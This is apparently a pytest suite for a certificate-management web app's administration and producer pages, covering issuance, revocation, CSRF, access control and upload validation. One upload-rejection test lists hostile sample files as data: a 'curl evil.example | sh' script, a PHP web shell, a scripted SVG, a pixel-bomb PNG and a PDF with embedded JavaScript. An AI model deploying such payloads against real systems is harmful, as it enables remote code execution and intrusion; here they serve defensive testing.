"""The office's certificate pages and the producers' certificate pages: what each may do and see."""
import io
import struct
import zlib
from datetime import date, timedelta
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import func, select

from storefront.accounts.models import Role
from storefront.audit.models import AuditEntry
from storefront.certification.models import Certificate
from storefront.certification.operations import revoke_certificate
from storefront.clock import today
from storefront.extensions import db
from storefront.media.models import MediaImage
from storefront.notifications.models import OutboxMessage

MINIMAL_PDF = (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
               b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
               b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000058 00000 n \n"
               b"trailer\n<< /Size 3 /Root 1 0 R >>\nstartxref\n110\n%%EOF\n")


def png_with_claimed_size(width: int, height: int) -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def photo(format="PNG") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (800, 1100), (250, 250, 245)).save(out, format)
    return out.getvalue()


def decision_fields(**changes):
    fields = {"number": "020/2026/OCOP", "stars": "3", "score": "62", "decision_number": "455/QĐ-UBND",
              "decision_date": (today() - timedelta(days=2)).isoformat(), "authority": "UBND tỉnh Quảng Ngãi",
              "level": "province", "valid_until": ""}
    fields.update(changes)
    return fields


@pytest.fixture
def admin(make_user, sign_in):
    user = make_user(role=Role.ADMIN, email="can.bo@ocop.example")
    return sign_in(user)


def certificates_of(product):
    return db.session.scalars(select(Certificate).where(Certificate.product_id == product.id)
                              .order_by(Certificate.id)).all()


def test_the_office_issues_a_certificate_from_the_product_it_finds(admin, make_product):
    product = make_product(stars=None, name_vi="Đường phèn Quảng Ngãi")
    db.session.commit()
    found = admin.get("/en/admin/certificates/new?q=phèn").get_data(as_text=True)
    assert f"/en/admin/certificates/new?product={product.id}" in found
    response = admin.post(f"/en/admin/certificates/new?product={product.id}", data=decision_fields())
    assert response.status_code == 302
    [certificate] = certificates_of(product)
    assert certificate.number == "020/2026/OCOP" and certificate.stars == 3
    [entry] = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "certificate.issue")).all()
    assert entry.actor_label == "can.bo@ocop.example" and entry.object_id == certificate.id
    page = admin.get(response.location).get_data(as_text=True)
    assert "Certificate 020/2026/OCOP issued." in page and "can.bo@ocop.example" in page


def test_an_inconsistent_decision_is_explained_in_vietnamese_and_nothing_is_issued(admin, make_product):
    product = make_product(stars=None)
    db.session.commit()
    response = admin.post(f"/admin/certificates/new?product={product.id}",
                          data=decision_fields(stars="4", score="65"))
    assert response.status_code == 400
    assert "Số điểm 65 tương ứng 3 sao, không phải 4 sao." in response.get_data(as_text=True)
    response = admin.post(f"/admin/certificates/new?product={product.id}", data=decision_fields(score="abc"))
    assert response.status_code == 400
    assert certificates_of(product) == []
    assert db.session.scalar(select(func.count(AuditEntry.id))) == 0


def test_renewing_and_upgrading_keep_the_old_certificate(admin, make_product, make_certificate):
    product = make_product(stars=None)
    old = make_certificate(product, stars=3, decision_date=today() - timedelta(days=1070))
    db.session.commit()
    form = admin.get(f"/en/admin/certificates/{old.id}/renew").get_data(as_text=True)
    assert 'value="UBND tỉnh Quảng Ngãi"' in form
    response = admin.post(f"/en/admin/certificates/{old.id}/renew", data=decision_fields(number="021/2026/OCOP"))
    assert response.status_code == 302
    old_id = old.id
    renewed = certificates_of(product)[-1]
    assert renewed.replaces_id == old_id and renewed.valid_until == renewed.decision_date.replace(
        year=renewed.decision_date.year + 3) - timedelta(days=1)
    response = admin.post(f"/en/admin/certificates/{renewed.id}/upgrade",
                          data=decision_fields(number="022/2026/OCOP", stars="4", score="75"))
    assert response.status_code == 302
    assert [c.stars for c in certificates_of(product)] == [3, 3, 4]
    assert set(db.session.scalars(select(AuditEntry.action))) == {"certificate.renew", "certificate.upgrade"}
    page = admin.get(f"/en/admin/certificates/{old_id}").get_data(as_text=True)
    assert "Replaced by a newer certificate" in page and "022/2026/OCOP" in page


def test_revoking_needs_a_reason_and_is_audited(admin, make_product, make_certificate):
    certificate = make_certificate(make_product(stars=None))
    db.session.commit()
    response = admin.post(f"/en/admin/certificates/{certificate.id}/revoke", data={"reason": ""})
    assert response.status_code == 400 and "Give the reason" in response.get_data(as_text=True)
    assert db.session.get(Certificate, certificate.id).revoked_at is None
    response = admin.post(f"/en/admin/certificates/{certificate.id}/revoke",
                          data={"reason": "<b>Vi phạm</b> an toàn thực phẩm"})
    assert response.status_code == 200 and "Revoke certificate" in response.get_data(as_text=True)
    response = admin.post(f"/en/admin/certificates/{certificate.id}/revoke",
                          data={"reason": "<b>Vi phạm</b> an toàn thực phẩm", "confirmed": "yes"})
    assert response.status_code == 302
    db.session.expire_all()
    assert db.session.get(Certificate, certificate.id).revoked_at is not None
    page = admin.get(response.location).get_data(as_text=True)
    assert "&lt;b&gt;Vi phạm&lt;/b&gt;" in page and "<b>Vi phạm" not in page
    [entry] = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "certificate.revoke")).all()
    assert entry.changes["revocation_reason"] == [None, "<b>Vi phạm</b> an toàn thực phẩm"]


def test_forms_are_refused_without_their_csrf_token(app, admin, make_product, make_certificate):
    certificate = make_certificate(make_product(stars=None))
    db.session.commit()
    page = admin.get(f"/admin/certificates/{certificate.id}").get_data(as_text=True)
    assert page.count('name="csrf_token"') == 2  # the decision upload and the revocation
    for path, data in ((f"/admin/certificates/{certificate.id}/revoke", {"reason": "Lý do đủ dài"}),
                       (f"/admin/certificates/{certificate.id}/renew", decision_fields()),
                       (f"/admin/certificates/new?product={certificate.product_id}", decision_fields())):
        assert admin.post(path, data=data, csrf=False).status_code == 400, path
    db.session.expire_all()
    assert db.session.get(Certificate, certificate.id).revoked_at is None
    assert db.session.scalar(select(func.count(Certificate.id))) == 1


# --- the scanned decision ---

def stored_files(app) -> list[Path]:
    root = Path(app.config["MEDIA_ROOT"])
    return sorted(path for path in root.rglob("*") if path.is_file())


def upload(client, certificate, data, name):
    return client.post(f"/en/admin/certificates/{certificate.id}/document",
                       data={"document": (io.BytesIO(data), name)}, content_type="multipart/form-data")


def test_a_pdf_decision_is_kept_and_served_to_the_office(app, admin, make_product, make_certificate):
    certificate = make_certificate(make_product(stars=None))
    db.session.commit()
    assert upload(admin, certificate, MINIMAL_PDF, "quyet-dinh.pdf").status_code == 302
    db.session.expire_all()
    assert certificate.decision_pdf_key
    response = admin.get(f"/en/admin/certificates/{certificate.id}/document")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.get_data() == MINIMAL_PDF
    response.close()
    [entry] = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "certificate.attach_decision"))
    assert entry.changes == {"decision_pdf_key": [None, certificate.decision_pdf_key]}


def test_a_photographed_decision_goes_through_the_image_pipeline(app, admin, make_product, make_certificate):
    certificate = make_certificate(make_product(stars=None))
    db.session.commit()
    assert upload(admin, certificate, photo("JPEG"), "scan.pdf").status_code == 302  # judged by content
    db.session.expire_all()
    assert certificate.decision_image is not None and certificate.decision_pdf_key is None
    response = admin.get(f"/en/admin/certificates/{certificate.id}/document")
    assert response.status_code == 302 and response.location.endswith("-800.webp")
    assert "/media/" in response.location


@pytest.mark.parametrize("data, name, message", [
    (b"#!/bin/sh\ncurl evil.example | sh\n", "quyet-dinh.pdf", "Only a PDF or a JPEG"),
    (b"<?php system($_GET['c']); ?>", "quyet-dinh.jpg", "Only a PDF or a JPEG"),
    (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "quyet-dinh.svg", "Only a PDF or a JPEG"),
    (png_with_claimed_size(60_000, 60_000), "bom.png", "too many pixels"),
    (b"%PDF-1.7\n" + b"A" * 5000, "hong.pdf", "damaged"),
    (MINIMAL_PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
     "script.pdf", "scripts"),
    (b"", "trong.pdf", "The file is empty"),
])
def test_refused_uploads_store_nothing(app, admin, make_product, make_certificate, data, name, message):
    certificate = make_certificate(make_product(stars=None))
    db.session.commit()
    before = stored_files(app)
    response = upload(admin, certificate, data, name)
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    assert stored_files(app) == before
    db.session.expire_all()
    assert not certificate.has_decision_document
    assert db.session.scalar(select(func.count(MediaImage.id))) == 0
    assert db.session.scalar(select(func.count(AuditEntry.id))) == 0


def test_a_file_over_the_decision_limit_is_refused(app, admin, make_product, make_certificate, monkeypatch):
    monkeypatch.setitem(app.config, "DECISION_MAX_BYTES", 1024)
    certificate = make_certificate(make_product(stars=None))
    db.session.commit()
    big = MINIMAL_PDF.replace(b"%%EOF", b"%" + b"x" * 2000 + b"\n%%EOF")
    response = upload(admin, certificate, big, "lon.pdf")
    assert response.status_code == 400 and "The file is larger than 1 KB." in response.get_data(as_text=True)
    db.session.expire_all()
    assert not certificate.has_decision_document


def test_a_50_mb_upload_is_refused_plainly_and_nothing_is_stored(app, admin, make_product, make_certificate):
    certificate = make_certificate(make_product(stars=None))
    db.session.commit()
    before = stored_files(app)
    # Encoded here, in memory: the test client would spool 50 MB to a temporary file it never closes.
    boundary = "ocop-boundary"
    body = (f'--{boundary}\r\nContent-Disposition: form-data; name="document"; filename="lon.pdf"\r\n'
            f"Content-Type: application/pdf\r\n\r\n").encode() + MINIMAL_PDF[:-6] + b"\0" * (50 * 1024 * 1024) \
        + f"%%EOF\r\n--{boundary}--\r\n".encode()
    response = admin.post(f"/en/admin/certificates/{certificate.id}/document", data=body,
                          content_type=f"multipart/form-data; boundary={boundary}")
    assert response.status_code == 413
    assert "files of more than 16 MB are refused. Nothing was saved." in response.get_data(as_text=True)
    assert stored_files(app) == before
    db.session.expire_all()
    assert not certificate.has_decision_document


# --- QR codes and ownership ---

def test_the_office_downloads_the_qr_code_of_any_certificate(admin, make_product, make_certificate):
    certificate = make_certificate(make_product(stars=None))
    db.session.commit()
    svg = admin.get(f"/admin/certificates/{certificate.id}/qr.svg")
    assert svg.status_code == 200 and svg.mimetype == "image/svg+xml"
    assert f'filename="ocop-{certificate.verification_code}.svg"' in svg.headers["Content-Disposition"]
    png = admin.get(f"/admin/certificates/{certificate.id}/qr.png")
    assert png.status_code == 200 and png.get_data().startswith(b"\x89PNG")
    assert admin.get(f"/admin/certificates/{certificate.id}/qr.gif").status_code == 404
    assert admin.get("/admin/certificates/999999/qr.svg").status_code == 404


@pytest.fixture
def two_producers(make_producer, make_product, make_certificate, make_user):
    mine, theirs = make_producer(name="HTX Tỏi Lý Sơn"), make_producer(name="HTX Quế Trà Bồng")
    own = make_certificate(make_product(stars=None, producer=mine, name_vi="Tỏi cô đơn", name_en="Single-clove garlic"),
                           decision_date=today() - timedelta(days=1080))  # about 15 days left
    other = make_certificate(make_product(stars=None, producer=theirs, name_vi="Quế thanh"))
    own.decision_pdf_key = other.decision_pdf_key = None
    user = make_user(role=Role.PRODUCER, producer=mine)
    return own, other, user


def test_a_producer_sees_its_own_certificates_with_the_expiry_warning(two_producers, sign_in):
    own, other, user = two_producers
    client = sign_in(user)
    page = client.get("/en/producer/certificates").get_data(as_text=True)
    assert own.number in page and "Single-clove garlic" in page
    assert other.number not in page and "Quế thanh" not in page
    assert "Ends within 30 days:" in page and own.valid_until.strftime("%d/%m/%Y") in page
    assert f"/en/producer/certificates/{own.id}/qr.svg" in page


@pytest.mark.parametrize("suffix", ["qr.svg", "qr.png", "document"])
def test_a_producer_never_gets_another_producers_certificate(app, two_producers, sign_in, suffix):
    own, other, user = two_producers
    own_id, other_id = own.id, other.id
    client = sign_in(user)
    assert client.get(f"/producer/certificates/{other_id}/{suffix}").status_code == 404
    expected = 404 if suffix == "document" else 200  # no decision attached to its own yet
    assert client.get(f"/producer/certificates/{own_id}/{suffix}").status_code == expected


def test_a_producer_opens_its_own_scanned_decision(app, two_producers, sign_in, admin):
    own, other, user = two_producers
    own_id = own.id
    assert upload(admin, own, MINIMAL_PDF, "qd.pdf").status_code == 302
    admin.post("/sign-out")
    client = sign_in(user)
    response = client.get(f"/producer/certificates/{own_id}/document")
    assert response.status_code == 200 and response.get_data() == MINIMAL_PDF
    response.close()


# --- the overview and the follow-up list ---

def test_the_overview_counts_the_certificates_to_follow_up(admin, make_producer, make_product, make_certificate):
    producer = make_producer(name="Cơ sở mạch nha Ngọc Đạt", phone="0905111222")
    make_certificate(make_product(stars=None, producer=producer), decision_date=today() - timedelta(days=1080))
    make_certificate(make_product(stars=None, producer=producer), decision_date=today() - timedelta(days=1040))
    make_certificate(make_product(stars=None, producer=producer), decision_date=today() - timedelta(days=1200))
    db.session.commit()
    overview = admin.get("/en/admin/").get_data(as_text=True)
    assert "Ending within 30 days</dt><dd>1</dd>" in overview
    assert "Ending in 31 to 90 days</dt><dd>1</dd>" in overview
    assert "Expired (last 12 months)</dt><dd>1</dd>" in overview
    follow_up = admin.get("/en/admin/certificates/expiring").get_data(as_text=True)
    assert follow_up.count("Cơ sở mạch nha Ngọc Đạt") == 3 and "tel:0905111222" in follow_up


def test_the_list_filters_by_state_and_text(admin, make_product, make_certificate):
    garlic = make_certificate(make_product(stars=None, name_vi="Tỏi đen"))
    make_certificate(make_product(stars=None, name_vi="Quế"), decision_date=today() - timedelta(days=1200))
    db.session.commit()
    page = admin.get("/en/admin/certificates/?status=expired").get_data(as_text=True)
    assert "Certificates found: 1" in page and "Quế" in page and "Tỏi đen" not in page
    page = admin.get(f"/en/admin/certificates/?q={garlic.verification_code}").get_data(as_text=True)
    assert "Certificates found: 1" in page and "Tỏi đen" in page
    assert admin.get("/en/admin/certificates/?status=nonsense&page=1").status_code == 200
    assert admin.get("/en/admin/certificates/?page=9").status_code == 404


def test_an_oversized_post_from_someone_else_is_refused_as_the_route_would(app, make_user, sign_in, monkeypatch):
    customer = sign_in(make_user(role=Role.CUSTOMER))
    # CSRF protection reads the form, which is refused for its size before the guard runs.
    body = b"--b\r\nContent-Disposition: form-data; name=\"document\"; filename=\"x.pdf\"\r\n\r\n" \
        + b"x" * (17 * 1024 * 1024) + b"\r\n--b--\r\n"
    anonymous = app.test_client().post("/admin/certificates/1/document", data=body,
                                       content_type="multipart/form-data; boundary=b")
    assert anonymous.status_code == 302 and "/sign-in" in anonymous.location
    response = customer.post("/admin/certificates/1/document", data=body, content_type="multipart/form-data; boundary=b")
    assert response.status_code == 403


# --- revoking: a confirmation step, the producer told why ---

def test_revoking_takes_a_confirmation_that_works_without_javascript(admin, make_producer, make_product,
                                                                     make_certificate):
    producer = make_producer(name="HTX Tỏi Lý Sơn", email="htx@toilyson.example")
    certificate = make_certificate(make_product(stars=None, producer=producer, name_vi="Tỏi cô đơn"))
    db.session.commit()
    detail = admin.get(f"/admin/certificates/{certificate.id}").get_data(as_text=True)
    assert "<script" not in detail.split("revoke-heading")[1].split("</form>")[0]
    reasons = {"reason": "Vi phạm an toàn thực phẩm", "reason_en": "Food safety violation"}

    # The first post only asks: nothing is revoked, nobody is told yet.
    page = admin.post(f"/admin/certificates/{certificate.id}/revoke", data=reasons)
    body = page.get_data(as_text=True)
    assert page.status_code == 200 and f"Thu hồi giấy chứng nhận {certificate.number}?" in body
    assert "Vi phạm an toàn thực phẩm" in body and "htx@toilyson.example" in body
    assert 'name="confirmed" type="hidden" value="yes"' in body  # a plain form: no script needed
    assert f'href="/admin/certificates/{certificate.id}"' in body  # cancelling goes back, keeping it
    db.session.expire_all()
    assert db.session.get(Certificate, certificate.id).revoked_at is None
    assert db.session.scalars(select(OutboxMessage)).all() == []

    # A forged confirmation (no CSRF token) does nothing either.
    assert admin.post(f"/admin/certificates/{certificate.id}/revoke", data={**reasons, "confirmed": "yes"},
                      csrf=False).status_code == 400
    db.session.expire_all()
    assert db.session.get(Certificate, certificate.id).revoked_at is None

    response = admin.post(f"/admin/certificates/{certificate.id}/revoke", data={**reasons, "confirmed": "yes"})
    assert response.status_code == 302
    db.session.expire_all()
    revoked = db.session.get(Certificate, certificate.id)
    assert revoked.revoked_at is not None and revoked.revocation_reason_en == "Food safety violation"
    [message] = db.session.scalars(select(OutboxMessage)).all()
    assert message.recipient == "htx@toilyson.example" and "Vi phạm an toàn thực phẩm" in message.body
    assert "bị thu hồi" in message.subject
    # Confirming again (the back button) neither revokes twice nor writes twice.
    again = admin.post(f"/admin/certificates/{certificate.id}/revoke", data={**reasons, "confirmed": "yes"})
    assert again.status_code == 400 and "đã bị thu hồi" in again.get_data(as_text=True)
    assert len(db.session.scalars(select(OutboxMessage)).all()) == 1


def test_the_producer_sees_why_its_certificate_was_revoked(two_producers, sign_in):
    own, other, user = two_producers
    revoke_certificate(own, "Không duy trì chất lượng sản phẩm")
    client = sign_in(user)
    for lang, label in (("", "Lý do cơ quan công nhận đưa ra:"), ("/en", "Reason given by the certifying authority:")):
        page = client.get(f"{lang}/producer/certificates").get_data(as_text=True)
        assert label in page and "Không duy trì chất lượng sản phẩm" in page, lang
